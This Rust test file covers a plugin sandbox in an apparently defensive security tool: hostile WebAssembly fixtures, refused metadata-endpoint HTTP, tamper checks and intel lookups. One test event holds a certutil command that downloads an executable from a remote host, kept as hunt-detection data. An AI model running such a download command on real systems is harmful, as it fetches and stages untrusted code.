//! `rampart plugin inspect` and `rampart plugin call` on every plugin and on
//! the hostile fixtures: results on success, a specific error and a non-zero
//! exit on failure, never a panic. Needs `cargo xtask plugins` first.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::PathBuf;
use std::process::{Command, Output};

fn plugins() -> PathBuf {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../target/plugins");
    assert!(
        dir.join("risk-scorer.wasm").is_file(),
        "run `cargo xtask plugins` first"
    );
    dir
}

fn examples() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../examples")
}

/// This test binary's artifact cache (never the user's own).
fn test_cache() -> PathBuf {
    std::env::temp_dir().join(format!("rampart-cli-test-cache-{}", std::process::id()))
}

fn rampart(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_rampart"))
        .args(args)
        .env("RAMPART_CACHE_DIR", test_cache())
        .output()
        .expect("run rampart")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[test]
fn inspect_reports_every_plugin() {
    for (name, kind) in [
        ("ip-reputation", "enricher"),
        ("risk-scorer", "scorer"),
        ("edl-blocklist", "responder"),
        ("cmdline-hunt", "hunt"),
    ] {
        let out = rampart(&[
            "plugin",
            "inspect",
            plugins().join(format!("{name}.wasm")).to_str().unwrap(),
        ]);
        assert!(out.status.success(), "{name}: {}", text(&out.stderr));
        let report: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
        assert_eq!(report["kind"], kind, "{name}");
        assert_eq!(report["wit_package"], "rampart:plugin@0.1.0", "{name}");
        assert_eq!(report["sha256"].as_str().map(str::len), Some(64));
        assert!(!report["exports"].as_array().unwrap().is_empty());
    }
}

#[test]
fn call_runs_every_plugin() {
    let alert = format!(
        "@{}",
        examples().join("alerts/ssh-bruteforce.json").display()
    );
    let action = format!("@{}", examples().join("actions/block-ip.json").display());
    let ipsum = examples().join("data/ipsum/ipsum.txt");
    let hunt_input = r#"{"params": {}, "events": [{"id": "e1", "time": 1, "data": {"CommandLine": "certutil -urlcache -f http://x/a.exe a.exe"}}]}"#;
    let cases: Vec<(&str, Vec<&str>)> = vec![
        (
            "ip-reputation",
            vec!["--input", &alert, "--intel-ipsum", ipsum.to_str().unwrap()],
        ),
        ("risk-scorer", vec!["--input", &alert]),
        ("edl-blocklist", vec!["--input", &action]),
        ("cmdline-hunt", vec!["--input", hunt_input]),
    ];
    for (name, extra) in cases {
        let manifest = plugins().join(format!("{name}.toml"));
        let mut args = vec!["plugin", "call", manifest.to_str().unwrap()];
        args.extend(extra);
        let out = rampart(&args);
        assert!(out.status.success(), "{name}: {}", text(&out.stderr));
        let result: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
        assert!(!result["value"].is_null(), "{name}: {result}");
        assert!(
            result["stats"]["fuel"].as_u64().unwrap_or(0) > 0,
            "{name}: {result}"
        );
    }
}

#[test]
fn call_on_hostile_fixtures_fails_specifically() {
    let hostile = plugins().join("fixtures/hostile.toml");
    for (title, expect) in [
        ("loop", "deadline of"),
        ("oom", "out of memory"),
        ("panic", "hostile plugin panics on purpose"),
        ("recurse", "call stack exhausted"),
        ("huge-output", "invalid output"),
        ("http http://169.254.169.254/", "capability denied"),
    ] {
        let input = format!(r#"{{"id": "h", "source": "test", "title": "{title}"}}"#);
        let out = rampart(&[
            "plugin",
            "call",
            hostile.to_str().unwrap(),
            "--allow-http",
            "169.254.169.254",
            "--input",
            &input,
        ]);
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(4), "{title}: {stderr}");
        assert!(stderr.contains(expect), "{title}: {stderr}");
        assert!(
            stderr.lines().any(|line| line.starts_with("error: "))
                && !stderr.contains("thread 'main' panicked"),
            "{title}: the host panicked: {stderr}"
        );
    }
}

#[test]
fn call_refuses_bad_packages_with_exit_3() {
    let dir = tempfile::tempdir().unwrap();
    let future = plugins().join("fixtures/future-major.toml");
    let out = rampart(&["plugin", "call", future.to_str().unwrap(), "--input", "{}"]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("rampart:plugin@1.0.0"),
        "{}",
        text(&out.stderr)
    );

    let manifest = std::fs::read_to_string(plugins().join("risk-scorer.toml")).unwrap();
    std::fs::write(dir.path().join("risk-scorer.toml"), &manifest).unwrap();
    let wasm = std::fs::read(plugins().join("risk-scorer.wasm")).unwrap();
    std::fs::write(dir.path().join("risk-scorer.wasm"), &wasm[..wasm.len() / 2]).unwrap();
    let out = rampart(&[
        "plugin",
        "call",
        dir.path().join("risk-scorer.toml").to_str().unwrap(),
        "--input",
        "{}",
    ]);
    assert_eq!(out.status.code(), Some(3));
    assert!(
        text(&out.stderr).contains("sha256 mismatch"),
        "{}",
        text(&out.stderr)
    );

    std::fs::write(
        dir.path().join("core.wasm"),
        wat::parse_str("(module)").unwrap(),
    )
    .unwrap();
    let out = rampart(&[
        "plugin",
        "inspect",
        dir.path().join("core.wasm").to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(3));
    assert!(
        text(&out.stderr).contains("core WebAssembly module, not a component"),
        "{}",
        text(&out.stderr)
    );

    let out = rampart(&[
        "plugin",
        "call",
        plugins().join("risk-scorer.toml").to_str().unwrap(),
        "--input",
        "{not json",
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("--input is not JSON"),
        "{}",
        text(&out.stderr)
    );
}

/// A manifest's component path is read only if it is a regular file, with
/// a size limit: a symlink to `/dev/zero` or to a FIFO is refused at once
/// (it used to read 6 GB, or hang).
#[test]
fn call_reads_only_a_regular_component_file() {
    let dir = tempfile::tempdir().unwrap();
    let manifest = std::fs::read_to_string(plugins().join("risk-scorer.toml")).unwrap();
    std::fs::write(dir.path().join("risk-scorer.toml"), &manifest).unwrap();
    let fifo = dir.path().join("fifo");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success(), "mkfifo");
    for target in [PathBuf::from("/dev/zero"), fifo.clone(), PathBuf::from("/")] {
        let link = dir.path().join("risk-scorer.wasm");
        let _ = std::fs::remove_file(&link);
        std::os::unix::fs::symlink(&target, &link).unwrap();
        let started = std::time::Instant::now();
        let out = rampart(&[
            "plugin",
            "call",
            dir.path().join("risk-scorer.toml").to_str().unwrap(),
            "--input",
            r#"{"id": "x", "source": "t", "title": "t"}"#,
        ]);
        let stderr = text(&out.stderr);
        assert!(!out.status.success(), "{}: {stderr}", target.display());
        assert!(
            stderr.contains("not a regular file"),
            "{}: {stderr}",
            target.display()
        );
        assert!(
            started.elapsed() < std::time::Duration::from_secs(20),
            "{} took {:?}",
            target.display(),
            started.elapsed()
        );
    }
}

/// `plugin call --dry-run` on a responder: the host denies outbound HTTP
/// whatever the plugin does (this one ignores its `dry_run` flag), and the
/// server it points at receives nothing.
#[test]
fn a_dry_run_call_cannot_send_http_even_if_the_plugin_tries() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let manifest = plugins().join("fixtures/webhook-responder.toml");
    let request = r#"{"run_id": "r1", "step_id": "s1", "idempotency_key": "k1", "target": {"kind": "hostname", "value": "ws-1"}, "params": {}}"#;
    let url = format!("url=http://127.0.0.1:{port}");
    let allow = format!("127.0.0.1:{port}");
    let out = rampart(&[
        "plugin",
        "call",
        manifest.to_str().unwrap(),
        "--dry-run",
        "--setting",
        &url,
        "--setting",
        "ignore_dry_run=yes",
        "--allow-http",
        &allow,
        "--allow-private",
        "127.0.0.0/8",
        "--input",
        request,
    ]);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(4), "{stderr}");
    assert!(stderr.contains("capability denied"), "{stderr}");
    assert!(listener.accept().is_err(), "the dry run reached the server");
}

/// `replay` counts runs by status and lists the steps that failed, with
/// their alert and error (a target that is not there fails at run time).
#[test]
fn replay_counts_runs_by_status_and_lists_failures() {
    let dir = tempfile::tempdir().expect("dir");
    let playbook = std::fs::read_to_string(examples().join("playbooks/dry-run-triage.yaml"))
        .expect("example")
        .replace(
            "target: 'alert.entities.ip[0]'",
            "target: 'alert.entities.ip[7]'",
        )
        .replace("steps.risk.score >= 60 && ", "");
    let playbook_path = dir.path().join("broken.yaml");
    std::fs::write(&playbook_path, playbook).expect("write");
    let alerts: Vec<String> = (0..3)
        .map(|i| {
            serde_json::json!({"id": format!("a{i}"), "source": "edr", "title": "t", "severity": "high", "entities": [{"kind": "ip", "value": "203.0.113.7"}]}).to_string()
        })
        .collect();
    let alerts_path = dir.path().join("alerts.jsonl");
    std::fs::write(&alerts_path, alerts.join("\n")).expect("write");
    let out = rampart(&[
        "replay",
        "--playbook",
        playbook_path.to_str().expect("path"),
        "--plugins",
        plugins().to_str().expect("path"),
        "--alerts",
        alerts_path.to_str().expect("path"),
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(report["runs_by_status"]["failed"], 3, "{report}");
    let failures = report["failures"].as_array().expect("failures");
    assert_eq!(failures.len(), 3, "{report}");
    assert_eq!(failures[0]["step"], "block");
    assert!(
        failures[0]["error"].as_str().is_some_and(|e| !e.is_empty()),
        "{report}"
    );
    assert!(
        text(&out.stderr).contains("failed steps (3"),
        "{}",
        text(&out.stderr)
    );
}

/// `plugin call` keeps compiled components in the verified artifact cache:
/// the second call loads instead of compiling; a tampered artifact is
/// caught by its checksum and recompiled, never loaded; `--no-cache`
/// compiles and keeps nothing.
#[test]
fn call_reuses_the_verified_artifact_cache() {
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let manifest = plugins().join("risk-scorer.toml");
    let alert = format!(
        "@{}",
        examples().join("alerts/ssh-bruteforce.json").display()
    );
    let call = |extra: &[&str]| {
        let mut args = vec![
            "plugin",
            "call",
            manifest.to_str().unwrap(),
            "--input",
            &alert,
        ];
        args.extend(extra);
        let out = rampart(&args);
        let stderr = text(&out.stderr);
        assert!(out.status.success(), "{stderr}");
        stderr
            .lines()
            .find(|line| line.starts_with("load "))
            .map(str::to_owned)
            .unwrap_or_else(|| panic!("no load line: {stderr}"))
    };
    let cache_arg = ["--cache-dir", cache.to_str().unwrap()];
    assert!(call(&cache_arg).ends_with("(compiled)"));
    assert!(call(&cache_arg).ends_with("(cache)"));
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = std::fs::metadata(&cache).unwrap().permissions().mode();
        assert_eq!(mode & 0o077, 0, "the cache is private: {mode:o}");
    }
    let artifacts: Vec<PathBuf> = std::fs::read_dir(&cache)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| path.extension().is_some_and(|e| e == "cwasm"))
        .collect();
    assert_eq!(artifacts.len(), 1, "{artifacts:?}");
    let mut bytes = std::fs::read(&artifacts[0]).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 0xff;
    std::fs::write(&artifacts[0], bytes).unwrap();
    assert!(
        call(&cache_arg).ends_with("(compiled)"),
        "tampered artifact not loaded"
    );
    assert!(call(&cache_arg).ends_with("(cache)"));
    let unused = dir.path().join("unused");
    let out = Command::new(env!("CARGO_BIN_EXE_rampart"))
        .args([
            "plugin",
            "call",
            manifest.to_str().unwrap(),
            "--input",
            &alert,
            "--no-cache",
        ])
        .env("RAMPART_CACHE_DIR", &unused)
        .output()
        .expect("run rampart");
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("(compiled)"));
    assert!(!unused.exists(), "--no-cache wrote a cache");
    let out = rampart(&[
        "plugin",
        "call",
        manifest.to_str().unwrap(),
        "--input",
        &alert,
        "--no-cache",
        "--cache-dir",
        "x",
    ]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
}

/// `rampart intel lookup`: one entity, or a file of them as JSON lines in
/// and out, against only the tenant's feeds; a bad line is reported with
/// its number, the others still answered.
#[test]
fn intel_lookup_one_and_in_batch() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let ipsum = examples().join("data/ipsum/ipsum.txt");
    let listed = std::fs::read_to_string(&ipsum)
        .unwrap()
        .lines()
        .find(|l| !l.starts_with('#'))
        .and_then(|l| l.split('\t').next())
        .unwrap()
        .to_owned();
    let out = rampart(&[
        "intel",
        "import",
        "--data",
        data.to_str().unwrap(),
        "--feed",
        "ipsum",
        "--format",
        "ipsum",
        "--subscribe",
        "acme",
        ipsum.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let base = [
        "intel",
        "lookup",
        "--data",
        data.to_str().unwrap(),
        "--tenant",
        "acme",
    ];
    let mut one = base.to_vec();
    one.extend(["--kind", "ip", &listed]);
    let out = rampart(&one);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let found: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(found["matches"][0]["feed"], "ipsum", "{found}");
    let file = dir.path().join("lookups.jsonl");
    std::fs::write(
        &file,
        format!("{{\"kind\": \"ip\", \"value\": \"{listed}\"}}\n{{\"kind\": \"domain\", \"value\": \"example.com\"}}\n{{\"kind\": \"planet\", \"value\": \"mars\"}}\n"),
    )
    .unwrap();
    let mut batch = base.to_vec();
    batch.extend(["--file", file.to_str().unwrap()]);
    let out = rampart(&batch);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "one bad line: {stderr}");
    let lines: Vec<serde_json::Value> = text(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("a JSON line"))
        .collect();
    assert_eq!(lines.len(), 3, "{lines:?}");
    assert_eq!(lines[0]["matches"][0]["indicator"], listed.as_str());
    assert!(lines[1]["matches"].as_array().is_some_and(Vec::is_empty));
    assert_eq!(lines[2]["line"], 3);
    assert!(
        lines[2]["error"]
            .as_str()
            .is_some_and(|e| e.contains("planet")),
        "{}",
        lines[2]
    );
    assert!(
        stderr.contains("2 lookups (1 with matches, 1 bad lines)"),
        "{stderr}"
    );
}
